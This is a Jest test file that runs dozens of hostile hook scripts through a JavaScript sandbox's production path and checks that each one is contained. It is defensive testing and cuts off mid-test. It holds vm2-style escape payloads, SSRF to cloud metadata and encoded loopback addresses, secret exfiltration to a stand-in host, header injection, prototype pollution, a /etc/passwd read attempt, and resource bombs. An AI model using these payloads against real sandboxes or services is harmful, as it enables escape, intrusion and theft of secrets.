/**
 * Hostile hook scripts, run through the production path (SandboxPool → worker process → isolate).
 * Each must end with the right status, within its time, with the host alive and unaffected.
 */
import { createHash, randomUUID } from 'node:crypto';
import { existsSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { toHookInput } from '../src/hookline/hooks/hook-input';
import { SandboxPool } from '../src/hookline/hooks/host/sandbox.pool';
import type { HookInvocation, InvocationResult, InvocationStatus } from '../src/hookline/hooks/host/sandbox.types';
import { createUserRegisteredEvent } from 'hookline';
import { Receiver } from './support/receiver';

const MARKER = join(tmpdir(), `hookline-pwned-${randomUUID()}`);
const CANARY = `canary-${randomUUID()}`;
const TIMEOUT_MS = 1_500;
/** Generous: CPU is shared with other test workers. Speed is measured by the benchmark, not here. */
const SLACK_MS = 4_000;

interface Case {
  name: string;
  source: string;
  /** The expected end, or the ends that are each correct (a race between two limits). */
  status: InvocationStatus | InvocationStatus[];
  check?(result: InvocationResult): void;
  memoryMb?: number;
  /** For a case about another limit, a clock that a busy machine never reaches first. */
  timeoutMs?: number;
  allowHosts?: string[];
  secrets?: Record<string, string>;
  /** Same hookId (and tenant) as another case, to share its isolate and context. */
  hookId?: string;
}

const escape = (code: string) => `module.exports = async function (user, context) { ${code} };`;
const fsWrite = `require('fs').writeFileSync(${JSON.stringify(MARKER)}, 'x')`;

let port = 0;

const cases: Case[] = [
  // --- Escapes to the host realm -------------------------------------------------------------------
  // A script that names process gets the sandbox's own (pid 1, empty env, no binding): never the host's.
  { name: 'this.constructor.constructor("return process")()', source: escape(`const p = this.constructor.constructor('return process')(); return [p.pid, Object.keys(p.env).length, typeof p.mainModule, typeof p.dlopen];`), status: 'ok', check: (r) => expect(r.response).toEqual([1, 0, 'undefined', 'undefined']) },
  { name: 'prototype walk from user', source: escape(`return user.constructor.constructor('return process')().mainModule.require('fs');`), status: 'error', check: (r) => expect(r.error?.message).toMatch(/Cannot read properties of undefined \(reading 'require'\)/) },
  { name: 'prototype walk from context and its secrets', source: escape(`return context.secrets.__proto__.constructor.constructor('return process')().env;`), status: 'ok', check: (r) => expect(r.response).toEqual({}) },
  { name: 'prototype walk from cb', source: `module.exports = function (u, c, cb) { let req; try { cb.constructor('return require')()('child_process'); req = 'loaded'; } catch (e) { req = e.code; } cb(null, cb.constructor('return typeof process.binding + typeof Buffer.prototype.constructor')() + ' ' + req); };`, status: 'ok', check: (r) => expect(r.response).toBe('functionfunction MODULE_NOT_FOUND') },
  { name: 'prototype walk from event and api (Actions)', source: `exports.onExecutePostUserRegistration = async (event, api) => { api.cache.set.constructor('return proc' + 'ess')(); };`, status: 'error', check: (r) => expect(r.error?.message).toContain('process is not defined') },
  { name: 'a script that never names them has no Buffer or process', source: escape(`return [typeof globalThis['Buf' + 'fer'], typeof globalThis['proc' + 'ess']];`), status: 'ok', check: (r) => expect(r.response).toEqual(['undefined', 'undefined']) },
  { name: 'console and fetch lead to the isolate global only', source: escape(`const g = console.log.constructor('return this')(); const f = await fetch.constructor('return this')(); const p = fetch.hooklinePrimitive.constructor('return this')(); return [g === f, g === p, typeof (g.process || {}).dlopen, typeof g.$0, Object.getOwnPropertyNames(g).filter(k => k.startsWith('$') || /ivm|host/i.test(k))];`), status: 'ok', check: (r) => expect(r.response).toEqual([true, true, 'undefined', 'undefined', ['__hooklineHostCall']]) },
  { name: 'fetch results and errors are isolate objects', source: escape(`const res = await fetch('http://127.0.0.1:PORT/ok'); const err = await fetch('http://forbidden.example/').catch((e) => e); return [typeof res.headers.get.constructor('return typeof (globalThis.process || {}).dlopen')(), err.constructor.constructor('return typeof (globalThis.process || {}).dlopen')(), err.name];`), allowHosts: ['127.0.0.1:PORT'], status: 'ok', check: (r) => expect(r.response).toEqual(['string', 'undefined', 'TypeError']) },
  { name: 'arguments.callee.caller reaches nothing', source: `module.exports = function (u, c, cb) { const caller = arguments.callee.caller; cb(null, caller === null ? 'null' : typeof caller); };`, status: 'ok', check: (r) => expect(r.response).toBe('null') },
  { name: 'Error.prepareStackTrace frame walk (vm2 family)', source: escape(`const found = []; Error.prepareStackTrace = (e, frames) => { for (const f of frames) { try { const t = f.getThis(); const fn = f.getFunction(); for (const o of [t, fn]) if (o && o.constructor) found.push(o.constructor.constructor('return typeof (globalThis.process || {}).dlopen')()); } catch (x) { found.push('threw'); } } return 'trace'; }; new Error('x').stack; await Promise.resolve(); try { null.f(); } catch (e) { e.stack; } return found.filter((v) => v !== 'undefined' && v !== 'threw');`), status: 'ok', check: (r) => expect(r.response).toEqual([]) },
  { name: 'Proxy thrown as error with hostile traps (vm2 family)', source: escape(`throw new Proxy(new Error('x'), { get(t, k) { if (k === 'name') throw new Error('trap'); if (k === 'message') return { toString() { return this.constructor.constructor('return process')(); } }; return Reflect.get(t, k); }, getPrototypeOf() { throw new Error('trap'); } });`), status: 'error', check: (r) => expect(r.error).toEqual({ name: 'Error', message: expect.any(String) }) },
  { name: 'Promise.prototype.then hijack (vm2 family)', source: `const seen = []; const then = Promise.prototype.then; Promise.prototype.then = function (a, b) { return then.call(this, (v) => { try { if (v && v.constructor) seen.push(v.constructor.constructor('return typeof (globalThis.process || {}).dlopen')()); } catch (e) {} return a ? a(v) : v; }, b); }; Promise.resolve = () => 'pwned'; JSON.stringify = () => '"pwned"'; module.exports = async () => { await null; return seen.filter((s) => s !== 'undefined'); };`, status: 'ok', check: (r) => expect(r.response).toEqual([]) },
  { name: 'Symbol and inspect family: custom inspect and Symbol.toPrimitive in a response and logs', source: escape(`const evil = { [Symbol.for('nodejs.util.inspect.custom')]() { return this.constructor.constructor('return process')(); }, [Symbol.toPrimitive]() { return this.constructor.constructor('return process')(); }, toString() { throw new Error('no'); }, safe: 1 }; console.log(evil); console.log(Object.create(null)); console.log(Symbol('s')); return evil;`), status: 'ok', check: (r) => { expect(r.response).toEqual({ safe: 1 }); expect(r.logs.map((l) => l.message)).toEqual(['{"safe":1}', '{}', 'Symbol(s)']); } },
  { name: 'require, import(), Buffer, process, file system', source: escape(`const out = [typeof require, typeof Buffer, typeof process, typeof module]; try { ${fsWrite}; } catch (e) { out.push(e.code + ': ' + e.message.split('.')[0]); } try { await import('fs'); } catch (e) { out.push('import refused'); } return out;`), status: 'ok', check: (r) => expect(r.response).toEqual(['function', 'function', 'object', 'object', 'MODULE_NOT_FOUND: Cannot require "fs" in a Hookline hook: Node built-in modules are not available in the sandbox', 'import refused']) },
  { name: 'module-scope require throws a clear error', source: `${fsWrite};\nmodule.exports = function (u, c, cb) { cb(); };`, status: 'error', check: (r) => expect(r.error?.message).toMatch(/^Cannot require "fs" in a Hookline hook: Node built-in modules are not available in the sandbox\. Supported modules: axios, /) },
  // --- Through require()d modules and the web globals --------------------------------------------
  { name: 'prototype walks from an axios response, its headers, config and error', source: escape(`const axios = require('axios'); const res = await axios.get('http://127.0.0.1:PORT/ok'); const err = await axios.get('http://forbidden.example/').catch((e) => e); const probe = (o) => { try { return o.constructor.constructor('return typeof process + typeof require(\\'fs\\')')(); } catch (e) { return e.code || e.message; } }; return [probe(res), probe(res.headers), probe(res.config.transformRequest[0]), probe(res.config.adapter), probe(err), probe(err.cause), err.code, typeof err.toJSON().stack];`), allowHosts: ['127.0.0.1:PORT'], status: 'ok', check: (r) => expect(r.response).toEqual([...Array(6).fill('MODULE_NOT_FOUND'), 'HOST_NOT_ALLOWED', 'string']) },
  { name: "required modules' functions lead to the isolate global only", source: escape(`const g = globalThis; const fns = [require('lodash').merge, require('request').post, require('request-promise'), require('node-fetch'), require('slack-notify'), require('@slack/webhook').IncomingWebhook, require('graphql-request').GraphQLClient, __hooklineCompat.loadModule, URL, TextEncoder, AbortController, Headers, FormData, atob]; const out = []; for (const f of fns) { const other = await f.constructor('return this')(); out.push(other === g && typeof (other.process || {}).dlopen === 'undefined'); } return out;`), status: 'ok', check: (r) => expect(r.response).toEqual(Array(14).fill(true)) },
  { name: 'the loader cannot be turned into a host require', source: escape(`const c = __hooklineCompat; const out = []; for (const name of ['fs', 'child_process', 'node:child_process', 'module', '../../../etc/passwd', 'axios/../../fs']) { try { c.require(name); out.push('loaded ' + name); } catch (e) { out.push(e.code); } } c.define('fs', (m) => { m.exports = 'mine'; }); out.push(typeof require('lodash').template); try { out.push(require('fs')); } catch (e) { out.push(e.code); } return out;`), status: 'ok', check: (r) => expect(r.response).toEqual([...Array(6).fill('MODULE_NOT_FOUND'), 'function', 'MODULE_NOT_FOUND']) },
  // --- Node built-ins (isolate/node/): every object leads to the isolate's global, host errors are isolate errors --
  { name: 'prototype walks from every new built-in object', source: escape(`const g = globalThis; const crypto = require('crypto'); const http = require('http'); const https = require('https'); const { EventEmitter } = require('events'); const stream = require('stream'); const util = require('util'); const url = require('url'); const qs = require('querystring'); const path = require('path'); const assert = require('assert'); const { StringDecoder } = require('string_decoder'); const timers = require('timers'); const req = http.request('http://127.0.0.1:PORT/ok'); req.on('error', () => {}); const res = await new Promise((resolve, reject) => https.get('https://forbidden.example/', resolve).on('error', (e) => resolve(e))); const objs = [Buffer, Buffer.from('x'), crypto.createHash('sha256'), crypto.createHmac('sha256', 'k'), crypto.createSecretKey(Buffer.from('k')), crypto.createSign('RSA-SHA256'), crypto.randomBytes(4), crypto.KeyObject, new EventEmitter(), new stream.Readable({ read() {} }), new stream(), util.promisify(setTimeout), url.parse('http://a/b'), new url.URL('http://a/'), path, assert, new assert.AssertionError({ message: 'x' }), new StringDecoder('utf8'), process, process.nextTick, process.env, req, res, http.globalAgent, timers.setImmediate, qs.stringify, __hooklineHostCall]; const out = []; for (const o of objs) { let other; try { other = o.constructor.constructor('return this')(); } catch (e) { other = 'threw ' + e.message; } out.push(other === g); } req.destroy(); return out;`), allowHosts: ['127.0.0.1:PORT'], status: 'ok', check: (r) => expect(r.response).toEqual(Array(27).fill(true)) },
  { name: 'errors from host-side crypto are isolate errors, without host stacks', source: escape(`const crypto = require('crypto'); const g = globalThis; const out = []; for (const f of [() => crypto.createHash('md4x'), () => crypto.createPrivateKey('not a key'), () => crypto.createPublicKey({ key: 'AAAA', format: 'der', type: 'spki' }), () => crypto.createSign('RSA-SHA256').update('x').sign('-----BEGIN PRIVATE KEY-----\\nAAAA\\n-----END PRIVATE KEY-----'), () => crypto.randomBytes(1e9)]) { try { f(); out.push('no error'); } catch (e) { out.push([e instanceof Error, e.constructor.constructor('return this')() === g, /node:internal|\\/src\\/|\\.ts:/.test(String(e.stack)), typeof e.code]); } } return out;`), status: 'ok', check: (r) => expect(r.response).toEqual(Array(5).fill([true, true, false, 'string'])) },
  { name: 'the host bridge of the built-ins refuses what is not a crypto call on text', source: escape(`const call = __hooklineHostCall; const out = []; const attempts = [() => call('fs', 'readFileSync', '{"path":"/etc/passwd"}'), () => call('crypto', 'constructor', '{}'), () => call('crypto', '__proto__', '{}'), () => call('crypto', 'hash', { toString() { return '{}'; } }), () => call('crypto', 'hash', '{"__proto__":{"algorithm":"sha256"},"data":""}'), () => call('crypto', 'hash', 'x'.repeat(5e6)), () => call('crypto', 'randomBytes', '{"size":100000000}')]; for (const f of attempts) { try { const answer = f(); out.push(typeof answer === 'string' ? (JSON.parse(answer).error ? 'refused' : 'answered') : typeof answer); } catch (e) { out.push('threw ' + e.name); } } try { globalThis.__hooklineHostCall = () => 'mine'; } catch (e) {} out.push(__hooklineHostCall === call); return out;`), status: 'ok', check: (r) => expect(r.response).toEqual([...Array(7).fill('refused').map((v, i) => (i === 3 ? 'threw TypeError' : v)), true]) },
  { name: 'http and https go through the same policy as fetch', source: escape(`const http = require('http'); const https = require('https'); const get = (mod, u) => new Promise((resolve) => { const req = mod.get(u, (res) => { let body = ''; res.on('data', (c) => (body += c)); res.on('end', () => resolve(res.statusCode + ' ' + body)); }); req.on('error', (e) => resolve(e.code)); }); return [await get(http, 'http://169.254.169.254/latest/meta-data/'), await get(http, 'http://10.0.0.1/'), await get(https, 'https://exfil.example.net/?d=' + context.secrets.TOKEN), await get(http, 'http://127.0.0.1:PORT/ok')];`), allowHosts: ['127.0.0.1:PORT'], secrets: { TOKEN: 'tok_http_abcdef' }, status: 'ok', check: (r) => { expect(r.response).toEqual(['HOST_NOT_ALLOWED', 'HOST_NOT_ALLOWED', 'HOST_NOT_ALLOWED', '200 ok']); expect(JSON.stringify(r.logs)).not.toContain('tok_http_abcdef'); } },
  { name: 'a hostile key argument and a poisoned Buffer stay in the hook', source: escape(`const crypto = require('crypto'); Buffer.prototype.toString = function () { return this.constructor.constructor('return typeof require')(); }; Object.prototype.pem = '-----BEGIN PUBLIC KEY-----'; let out; try { crypto.createPrivateKey({ get key() { return this.constructor.constructor('return process')(); } }); out = 'created'; } catch (e) { out = e.code || e.name; } return [out, crypto.createHash('sha256').update('a').digest('hex').length];`), status: 'ok', check: (r) => expect(r.response).toEqual(['ERR_INVALID_ARG_TYPE', expect.any(Number)]) },
  { name: 'lodash prototype pollution stays in the hook; lodash.template cannot reach the host', source: escape(`const _ = require('lodash'); _.merge({}, JSON.parse('{"__proto__":{"polluted":"yes"}}')); _.set({}, '__proto__.polluted2', 'yes'); return _.template('<%= typeof (globalThis.process || {}).dlopen %> <%= this.constructor.constructor("return typeof (globalThis.process || {}).dlopen")() %>')({});`), status: 'ok', check: (r) => expect(r.response).toBe('undefined undefined') },
  { name: 'SSRF through the libraries: axios, request, node-fetch, graphql-request, slack-notify, URL objects', source: escape(`const out = []; const meta = 'http://169.254.169.254/latest/meta-data/'; const enc = new URL('http://2130706433:PORT/'); out.push(await require('axios').get(meta).then(() => 'reached', (e) => e.code)); out.push(await require('axios').get(enc.href).then(() => 'reached', (e) => e.code)); out.push(await new Promise((res) => require('request').get(meta, (e) => res(e ? e.code : 'reached')))); out.push(await require('node-fetch')(enc).then(() => 'reached', (e) => e.code)); out.push(await require('graphql-request').request('http://10.0.0.1/graphql', '{ a }').then(() => 'reached', (e) => e.code || e.message)); out.push(await fetch(enc, { redirect: 'follow' }).then(() => 'reached', (e) => e.code)); return out;`), allowHosts: ['*.example.com', 'api.example.com'], status: 'ok', check: (r) => expect(r.response).toEqual(Array(6).fill('HOST_NOT_ALLOWED')) },
  { name: 'hook C changes axios defaults and its loader state', hookId: 'acme/hook/c', source: escape(`const axios = require('axios'); axios.defaults.headers.common['x-stolen'] = context.secrets.C_KEY; axios.defaults.adapter = () => Promise.resolve({ data: 'fake' }); __hooklineCompat.define('lodash', (m) => { m.exports = 'hijacked'; }); return 'done';`), secrets: { C_KEY: 'secret-of-c' }, status: 'ok' },
  { name: "hook D (same tenant) gets its own modules, not C's", hookId: 'acme/hook/d', source: `const axios = require('axios'); const _ = require('lodash');\nmodule.exports = async function () { const res = await axios.get('http://127.0.0.1:PORT/ok'); return [res.data, JSON.stringify(axios.defaults.headers.common).includes('x-stolen'), typeof _.merge]; };`, allowHosts: ['127.0.0.1:PORT'], status: 'ok', check: (r) => expect(r.response).toEqual(['ok', false, 'function']) },
  // --- Responses that try to surprise the host ----------------------------------------------------
  { name: 'a getter that loops in the response', source: `module.exports = function (u, c, cb) { cb(null, { get x() { for (;;) {} } }); };`, status: 'timeout' },
  { name: 'a Proxy response whose traps throw', source: `module.exports = function (u, c, cb) { cb(null, new Proxy({}, { ownKeys() { throw new Error('boom'); } })); };`, status: 'ok', check: (r) => { expect(r.response).toBeNull(); expect(r.logs[0].message).toContain('cannot be serialised'); } },
  { name: 'toJSON in the response only yields data', source: escape(`return { toJSON() { return { fine: typeof (globalThis.process || {}).dlopen }; } };`), status: 'ok', check: (r) => expect(r.response).toEqual({ fine: 'undefined' }) },
  { name: 'a circular response', source: escape(`const o = {}; o.self = o; return o;`), status: 'ok', check: (r) => expect(r.response).toBeNull() },
  { name: 'a huge response', source: escape(`return 'x'.repeat(5e6);`), status: 'ok', check: (r) => { expect(r.response).toBeNull(); expect(r.logs[0].message).toContain('larger than'); } },
  // --- Callback misuse and non-errors -------------------------------------------------------------
  { name: 'cb called twice', source: `module.exports = function (u, c, cb) { cb(null, 1); cb(new Error('again')); };`, status: 'ok', check: (r) => { expect(r.response).toBe(1); expect(r.logs[0]).toEqual({ level: 'warn', message: expect.stringContaining('more than once') }); } },
  { name: 'cb never called', source: `module.exports = function (u, c, cb) {};`, status: 'timeout', check: (r) => expect(r.error?.message).toContain('must call cb()') },
  { name: 'throwing a number, null, a Symbol and an object', source: `let n = 0; module.exports = async () => { n++; if (n === 1) throw 42; };`, status: 'error', check: (r) => expect(r.error).toEqual({ name: 'Error', message: '42' }) },
  { name: 'cb(Symbol())', source: `module.exports = function (u, c, cb) { cb(Symbol('s')); };`, status: 'error', check: (r) => expect(r.error?.message).toBe('Symbol(s)') },
  { name: 'cb with an error whose getters throw', source: `module.exports = function (u, c, cb) { cb({ get name() { throw 1; }, get message() { throw 2; } }); };`, status: 'error', check: (r) => expect(r.error?.name).toBe('Error') },
  // --- CPU -------------------------------------------------------------------------------------------
  { name: 'an infinite synchronous loop', source: `module.exports = function () { for (;;) {} };`, status: 'timeout' },
  { name: 'an infinite microtask loop', source: escape(`for (;;) await null;`), status: 'timeout' },
  { name: 'an infinite promise-chain loop at module scope', source: `(function f() { Promise.resolve().then(f); })();\nmodule.exports = function (u, c, cb) { cb(); };`, status: 'timeout' },
  { name: 'an infinite async loop over timers', source: escape(`for (;;) await new Promise((r) => setTimeout(r, 0));`), status: 'timeout' },
  { name: 'a loop in a timer after cb', source: `module.exports = function (u, c, cb) { setTimeout(() => { for (;;) {} }, 1); cb(); };`, status: 'ok' },
  { name: 'deep recursion', source: escape(`function f() { return f() + 1; } return f();`), status: 'error', check: (r) => expect(r.error).toEqual({ name: 'RangeError', message: 'Maximum call stack size exceeded' }) },
  { name: 'SharedArrayBuffer and Atomics.wait', source: escape(`const out = [typeof SharedArrayBuffer, typeof Atomics]; try { Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0); } catch (e) { out.push(e.name); } return out;`), status: 'ok', check: (r) => expect(r.response).toEqual(['undefined', 'undefined', 'ReferenceError']) },
  { name: 'a WebAssembly loop', source: escape(`const bytes = new Uint8Array([0,97,115,109,1,0,0,0,1,4,1,96,0,0,3,2,1,0,7,5,1,1,102,0,0,10,9,1,7,0,3,64,12,0,11,11]); new WebAssembly.Instance(new WebAssembly.Module(bytes)).exports.f();`), status: 'error', check: (r) => expect(r.error?.message).toContain('WebAssembly is not defined') },
  // --- Memory --------------------------------------------------------------------------------------
  // Which limit stops a bomb first, the heap's or the clock's, depends on the V8 version and the machine's
  // speed (Node 24/26 grow a huge array slowly instead of aborting at once): either is a correct end. What
  // must hold is that it ends, within the bound, and that only a worker pays for it (checked below). On a
  // busy machine an aborting worker may also be reported as a crash (SandboxCrashError): still only a worker.
  { name: 'an array bomb', source: escape(`const a = []; for (;;) a.push(new Array(1e5).fill({}));`), status: ['memory_limit', 'timeout'] },
  { name: 'a string doubling bomb', source: escape(`let s = 'x'; for (;;) { s += s; s.indexOf('y'); }`), status: ['memory_limit', 'timeout'] },
  { name: 'an ArrayBuffer bomb', source: escape(`const a = []; for (;;) a.push(new ArrayBuffer(8 * 1024 * 1024));`), status: 'memory_limit' },
  { name: 'new Array(50e6).fill(1.5) (aborts a whole process on Node 20)', source: escape(`return new Array(50e6).fill(1.5).length;`), status: ['memory_limit', 'timeout'] },
  { name: 'an object grown to 10 million keys (aborts a whole process on Node 20)', source: escape(`const o = {}; for (let i = 0; i < 1e7; i++) o['k' + i] = i; return 1;`), status: ['memory_limit', 'timeout'] },
  { name: "'x'.repeat(2 ** 28).split('') (aborts a whole process on Node 24 and 26: invalid size)", source: escape(`return 'x'.repeat(2 ** 28).split('').length;`), status: ['memory_limit', 'timeout', 'error'], check: (r) => { if (r.status === 'error') expect(r.error?.name).toBe('SandboxCrashError'); } },
  // --- Logs ----------------------------------------------------------------------------------------
  { name: 'a console flood', source: escape(`for (let i = 0; i < 100000; i++) console.log('x'.repeat(1000));`), timeoutMs: 10_000, status: 'ok', check: (r) => { expect(r.logs.length).toBeLessThanOrEqual(101); expect(r.logs[r.logs.length - 1].message).toContain('log limit reached'); } },
  // --- Network -------------------------------------------------------------------------------------
  { name: 'fetch to loopback through a wildcard entry', source: escape(`return await fetch('http://127.0.0.1:PORT/').then(() => 'reached', (e) => e.message);`), allowHosts: ['*.example.com'], status: 'ok', check: (r) => expect(r.response).toContain('is not in allowHosts') },
  { name: 'fetch to the metadata address and a private one', source: escape(`const out = []; for (const u of ['http://169.254.169.254/latest/meta-data/', 'http://10.0.0.1/', 'http://[::1]:PORT/', 'http://[fd00:ec2::254]/']) out.push(await fetch(u).then(() => 'reached', (e) => e.message)); return out;`), allowHosts: ['*.example.com', 'api.example.com'], status: 'ok', check: (r) => expect(r.response).toEqual(expect.arrayContaining([expect.stringContaining('not in allowHosts')])) },
  { name: 'fetch to encoded IPs', source: escape(`const out = []; for (const u of ['http://2130706433:PORT/', 'http://0x7f000001:PORT/', 'http://017700000001:PORT/', 'http://127.1:PORT/']) out.push(await fetch(u).then(() => 'reached', (e) => e.message)); return out;`), allowHosts: ['localhost:PORT'], status: 'ok', check: (r) => expect(r.response).toEqual(Array(4).fill('fetch: host 127.0.0.1:PORT is not in allowHosts')) },
  { name: 'fetch to a host not allowed, logged', source: escape(`return await fetch('https://exfil.example.net/?d=' + context.secrets.TOKEN).then(() => 'reached', (e) => e.message);`), allowHosts: ['api.example.com'], secrets: { TOKEN: 'tok_abcdef' }, status: 'ok', check: (r) => { expect(r.response).toBe('fetch: host exfil.example.net:443 is not in allowHosts'); expect(r.logs).toEqual([{ level: 'warn', message: '[hookline] fetch: host exfil.example.net:443 is not in allowHosts' }]); } },
  { name: 'header injection', source: escape(`return await fetch.hooklinePrimitive('http://127.0.0.1:PORT/', { headers: { 'x-a': 'b\\r\\nHost: evil' } }).then(() => 'reached', (e) => e.message);`), allowHosts: ['127.0.0.1:PORT'], status: 'ok', check: (r) => expect(r.response).toContain('line break') },
  // The global fetch's Headers drops a value with a line break before the request (the receiver checks none arrives).
  { name: 'header injection through fetch, axios and request', source: escape(`const u = 'http://127.0.0.1:PORT/inject'; const bad = 'b\\r\\nHost: evil'; const out = []; out.push(await fetch(u, { headers: { 'x-a': bad } }).then((r) => r.status, (e) => e.message)); out.push(await require('axios').get(u, { headers: { 'x-a': bad } }).then((r) => r.status, (e) => e.message)); out.push(await new Promise((res) => require('request')({ url: u, headers: { 'x-a': bad } }, (e, r) => res(e ? e.message : r.statusCode)))); return out;`), allowHosts: ['127.0.0.1:PORT'], status: 'ok', check: (r) => expect(r.response).toEqual([200, expect.anything(), expect.anything()]) },
  { name: 'a fetch flood is capped', source: escape(`const all = []; for (let i = 0; i < 30; i++) all.push(fetch('http://127.0.0.1:PORT/ok').then(() => 'ok', (e) => e.message)); const out = await Promise.all(all); return out.filter((x) => x !== 'ok').length;`), allowHosts: ['127.0.0.1:PORT'], status: 'ok', check: (r) => expect(r.response).toBe(10) },
  // --- Isolation between hooks and invocations -----------------------------------------------------
  { name: 'hook A stashes its secrets and pollutes prototypes', hookId: 'acme/hook/a', source: escape(`globalThis.stash = context.secrets; Object.prototype.polluted = 'yes'; Array.prototype.map = () => 'pwned'; JSON.parse = () => ({}); return 'done';`), secrets: { A_KEY: 'secret-of-a' }, status: 'ok' },
  { name: 'hook B (same tenant) sees neither', hookId: 'acme/hook/b', source: escape(`return { stash: typeof globalThis.stash, polluted: ({}).polluted === undefined, keys: Object.keys(context.secrets), user: user.email };`), secrets: { B_KEY: 'secret-of-b' }, status: 'ok', check: (r) => expect(r.response).toEqual({ stash: 'undefined', polluted: true, keys: ['B_KEY'], user: 'ada@example.com' }) },
  { name: 'hook A again: its own pollution persists, the machinery is intact', hookId: 'acme/hook/a', source: escape(`globalThis.stash = context.secrets; Object.prototype.polluted = 'yes'; Array.prototype.map = () => 'pwned'; JSON.parse = () => ({}); return 'done';`), secrets: { A_KEY: 'secret-of-a' }, status: 'ok', check: (r) => expect(r.response).toBe('done') },
  // The machinery's answers to the worker are JSON made in the hook's own context, where it may change how
  // arrays and objects serialise: an answer of the wrong shape once ended the worker (and every hook in it).
  { name: 'Array.prototype.toJSON and Object.prototype.toJSON replaced before cb()', source: `module.exports = function (u, c, cb) { Array.prototype.toJSON = function () { return { includes: 1 }; }; Object.prototype.toJSON = function () { return 'x'; }; cb(null, 'done'); };`, status: 'ok', check: (r) => expect(r.response).toBe('done') },
  { name: 'the global crypto and WebSocket lead to the isolate global only; their errors are isolate errors', source: escape("const g = globalThis; const probe = (o) => { try { return o.constructor.constructor('return this')() === g; } catch (e) { return 'threw ' + e.message; } }; let wsError; try { new WebSocket('wss://exfil.example.net/'); } catch (e) { wsError = e; } let quota; try { crypto.getRandomValues(new Uint8Array(1e6)); } catch (e) { quota = e; } const bytes = crypto.getRandomValues(new Uint8Array(16)); return [probe(crypto), probe(crypto.getRandomValues), probe(crypto.randomUUID), probe(WebSocket), probe(wsError), probe(quota), probe(bytes), wsError.code, quota.name, typeof crypto.subtle, /^[0-9a-f-]{36}$/.test(crypto.randomUUID())];"), status: 'ok', check: (r) => expect(r.response).toEqual([...Array(7).fill(true), 'ERR_HOOKLINE_NO_WEBSOCKET', 'QuotaExceededError', 'undefined', true]) },
  // --- context.webtask.storage ----------------------------------------------------------------------
  { name: 'prototype walks from storage, its functions, its data and its errors', source: `module.exports = function (u, context, cb) { const s = context.webtask.storage; const g = globalThis; const probe = (o) => { try { return o.constructor.constructor('return this')() === g; } catch (e) { return 'threw ' + e.message; } }; s.set({ a: 1 }, () => s.get((e, data) => { s.set('x'.repeat(600 * 1024), (err) => { const p = s.get(); p.then((d) => cb(null, [probe(s), probe(s.get), probe(s.set), probe(data), probe(err), probe(p), probe(d), typeof err.stack === 'string' && !/node:internal|\\/src\\/|\\.ts:/.test(err.stack), err.code])); }); })); };`, status: 'ok', check: (r) => expect(r.response).toEqual([...Array(8).fill(true), 413]) },
  { name: 'a 3 MB storage.set is refused (413) in the worker, before it crosses to the app', source: escape("const bridge = globalThis.__hooklineHostCall; const s = context.webtask.storage; const huge = 'x'.repeat(3e6); const out = []; out.push(await s.set(huge).then(() => 'stored', (e) => e.code)); out.push(await s.get().then((d) => d === undefined ? 'nothing stored' : 'stored', (e) => e.code)); return [out, typeof bridge];"), status: 'ok', check: (r) => expect(r.response).toEqual([[413, 'nothing stored'], 'function']) },
  { name: 'hook E stores a secret in its storage', hookId: 'acme/hook/e', source: escape(`await context.webtask.storage.set({ secret: context.secrets.E_KEY }); return (await context.webtask.storage.get()).secret === context.secrets.E_KEY;`), secrets: { E_KEY: 'secret-of-e' }, status: 'ok', check: (r) => expect(r.response).toBe(true) },
  { name: "hook F (same tenant) cannot read E's storage, whatever it replaces", hookId: 'acme/hook/f', source: escape(`const s = context.webtask.storage; const before = await s.get(); context.webtask.meta['hookline-hook'] = 'e'; context.webtask.id = 'acme/e'; JSON.stringify = () => '{"op":"get","hook":"acme/hook/e"}'; const after = await s.get(); return [before === undefined, after === undefined];`), status: 'ok', check: (r) => expect(r.response).toEqual([true, true]) },
  { name: 'a storage flood is capped, and the host bridge takes no forged storage calls', source: escape(`const s = context.webtask.storage; const all = []; for (let i = 0; i < 25; i++) all.push(s.get().then(() => 'ok', (e) => e.code)); const out = await Promise.all(all); return [out.filter((x) => x === 'ok').length, out.filter((x) => x === 429).length, typeof globalThis.__hooklineHostCall === 'function' ? (() => { try { return __hooklineHostCall('storage', 'get', '{}'); } catch (e) { return 'threw'; } })() : 'none'];`), status: 'ok', check: (r) => expect(r.response).toEqual([20, 5, expect.stringContaining('no host module')]) },
  { name: 'reading the environment', source: escape(`return Object.getOwnPropertyNames(globalThis).map((k) => { try { return k + '=' + String(globalThis[k]).slice(0, 50); } catch (e) { return k; } });`), status: 'ok', check: (r) => expect(JSON.stringify(r.response)).not.toContain(CANARY) },
];

describe('sandbox security: hostile hook scripts', () => {
  const pool = new SandboxPool({ size: 1 });
  let receiver: Receiver;
  const event = createUserRegisteredEvent({ tenant: 'acme', user: { id: 'u1', email: 'ada@example.com' } });

  beforeAll(async () => {
    process.env.HOOKLINE_SECURITY_CANARY = CANARY;
    receiver = await Receiver.start();
    port = Number(new URL(receiver.url).port);
  });

  afterAll(async () => {
    await pool.close();
    await receiver.close();
    delete process.env.HOOKLINE_SECURITY_CANARY;
    rmSync(MARKER, { force: true });
  });

  const withPort = (text: string) => text.replace(/PORT/g, String(port));

  it('has at least 25 hostile scripts', () => expect(cases.length).toBeGreaterThanOrEqual(25));

  it.each(cases.map((c) => [c.name, c] as const))('%s', async (_name, c) => {
    const source = withPort(c.source);
    // A tenant per case: a tenant's hooks share its isolate (one thread), so a case still burning CPU
    // until its timeout would delay the next. The isolation cases share tenant acme on purpose.
    const tenant = c.hookId ? 'acme' : `t${createHash('sha1').update(c.name).digest('hex').slice(0, 10)}`;
    const invocation: HookInvocation = {
      tenant,
      hookId: c.hookId ?? `${tenant}/hook/x`,
      script: { filename: 'hostile.js', source, hash: createHash('sha256').update(source).digest('hex') },
      input: toHookInput(event),
      secrets: c.secrets ?? { API_KEY: 'sk_live_123456' },
      allowHosts: (c.allowHosts ?? []).map(withPort),
      timeoutMs: c.timeoutMs ?? TIMEOUT_MS,
      memoryMb: c.memoryMb ?? 32,
    };
    const started = Date.now();
    const result = await pool.invoke(invocation);
    const elapsed = Date.now() - started;
    const expected = typeof c.status === 'string' ? c.status : expect.stringMatching(new RegExp(`^(${c.status.join('|')})$`));
    expect({ status: result.status, error: result.error }).toEqual({ status: expected, error: c.status === 'ok' ? null : expect.anything() });
    c.check?.(JSON.parse(JSON.stringify(result).split(String(port)).join('PORT')));
    expect(elapsed).toBeLessThan((c.timeoutMs ?? TIMEOUT_MS) + SLACK_MS);
    // The host is unaffected: nothing written, no pollution, and the sandbox still serves a benign hook.
